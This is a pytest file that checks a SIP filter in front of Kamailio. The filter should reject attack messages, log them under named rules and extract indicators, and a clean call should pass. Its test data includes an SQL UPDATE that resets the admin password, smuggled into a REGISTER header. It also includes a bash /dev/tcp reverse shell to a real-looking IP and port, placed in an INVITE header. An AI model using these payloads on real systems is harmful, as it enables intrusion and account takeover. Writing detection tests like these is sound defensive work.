"""The case's attacks, each against a real Kamailio with four workers."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from harness import Server, exchange, invite, request, status


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder: Path = tmp_path_factory.mktemp("case")
    with Server(folder) as running:
        yield running


def test_eaglesip_update_in_a_register_is_rejected_and_named(server: Server) -> None:
    sent = request(
        "REGISTER",
        from_="\"UPDATE users SET password='123456789ttt' WHERE username='admin'\" <sip:admin@example.com>;tag=1",
        call_id="eagle",
        headers=("User-Agent: EagleSIP",),
    )
    assert status(exchange(server, sent, source="127.0.1.1")) == 403
    record = server.record_of("eagle")
    assert record["event"]["action"] == "reject"
    assert "sql-update-set" in record["rule"]["id"]
    assert record["sipsieve"]["field"] == "from.display_name"
    assert record["source"]["ip"] == "127.0.1.1"


def test_reverse_shell_in_an_invite_is_rejected(server: Server) -> None:
    sent = invite(from_='"bash -i >& /dev/tcp/216.126.227.195:3456 0>&1" <sip:a@example.com>;tag=1', call_id="shell")
    assert status(exchange(server, sent, source="127.0.1.2")) == 403
    record = server.record_of("shell")
    assert "shell-dev-tcp" in record["rule"]["id"]
    # The command host to look for in other logs; never the message's own hosts.
    assert record["indicators"] == [{"type": "host-port", "value": "216.126.227.195:3456"}]


def test_invite_without_a_body_is_rejected(server: Server) -> None:
    answer = exchange(server, request("INVITE", call_id="zero"), source="127.0.1.3")
    assert status(answer) == 400
    assert b"Content-Length 0" in (answer or b"")
    assert server.record_of("zero")["rule"]["id"] == ["content-length-zero"]


def test_a_clean_call_passes(server: Server) -> None:
    assert (
        status(exchange(server, invite(from_='"O\'Brien" <sip:obrien@example.com>;tag=1'), source="127.0.1.4")) == 200
    )
